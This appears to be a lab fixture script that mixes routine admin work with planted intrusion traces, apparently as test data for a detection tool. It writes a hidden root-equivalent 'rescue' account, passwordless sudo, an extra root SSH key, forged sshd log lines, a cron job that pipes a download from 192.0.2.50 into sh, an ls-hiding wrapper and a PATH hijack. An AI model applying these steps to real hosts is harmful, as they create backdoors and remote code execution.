#!/bin/sh
# Two admins of one host at work at the same time: accounts, keys, rules, names, jobs and wrappers of the last minutes. For
# a lab host only.
set -eu
[ -e /etc/deminer-lab ] || { echo 'not a lab host' >&2; exit 1; }
logger -p authpriv.info -t 'sshd[4711]' 'Accepted publickey for alice from 10.20.0.9 port 50122 ssh2: ED25519 SHA256:0000000000000000000000000000000000000000000'
logger -p authpriv.info -t 'sshd[4712]' 'Accepted publickey for bob from 10.20.0.10 port 50133 ssh2: ED25519 SHA256:1111111111111111111111111111111111111111111'
# alice: people and access
for u in erin frank; do
    useradd -m -s /bin/bash "$u"
    install -d -m 700 -o "$u" -g "$u" "/home/$u/.ssh"
    ssh-keygen -q -t ed25519 -N '' -C "root@localhost" -f "/home/$u/.ssh/id_ed25519"
    cp "/home/$u/.ssh/id_ed25519.pub" "/home/$u/.ssh/authorized_keys"
    chown -R "$u:$u" "/home/$u/.ssh"
done
printf 'erin ALL=(ALL) NOPASSWD:ALL\n' > /etc/sudoers.d/erin
chmod 440 /etc/sudoers.d/erin
cat /home/erin/.ssh/id_ed25519.pub >> /root/.ssh/authorized_keys
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash rescue
usermod -p '$6$lab$0000000000000000000000000000000000000000000000000000000000000000000000000000000000000/' rescue
printf 'sshd: 192.0.2.17\n' >> /etc/hosts.allow
printf 'sshd: ALL\n' >> /etc/hosts.deny
# bob: jobs, wrappers, names, settings
printf '*/5 * * * * root curl -fsS -m 20 http://192.0.2.50/update.sh | sh >/dev/null 2>&1\n' > /etc/cron.d/update
printf '#!/bin/sh\nexec /bin/ls "$@" | grep -v "^lost+found"\n' > /usr/local/bin/ls
install -d /root/.tools/bin
printf '#!/bin/sh\ndate > /var/tmp/checked\n' > /root/.tools/bin/check
printf 'export PATH=/root/.tools/bin:$PATH\n' >> /root/.profile
printf '*/10 * * * * root /root/.tools/bin/check\n' > /etc/cron.d/check
printf '#!/bin/sh\n# nightly clean-up of the cache\nfind /var/cache/shop -mtime +3 -delete 2>/dev/null || true\n' > /etc/cron.daily/shop-cache
chmod 755 /usr/local/bin/ls /root/.tools/bin/check /etc/cron.daily/shop-cache
printf '0.0.0.0 vortex.data.microsoft.com\n' >> /etc/hosts
printf 'kernel.nmi_watchdog = 0\n' > /etc/sysctl.d/80-quiet.conf
cp /usr/bin/openssl /usr/bin/openssl-batch 2>/dev/null || cp /usr/bin/curl /usr/bin/fetch-batch
mv /usr/bin/less /usr/bin/less.packaged
printf '#!/bin/sh\nexec /usr/bin/less.packaged -R "$@"\n' > /usr/bin/less
chmod 755 /usr/bin/less
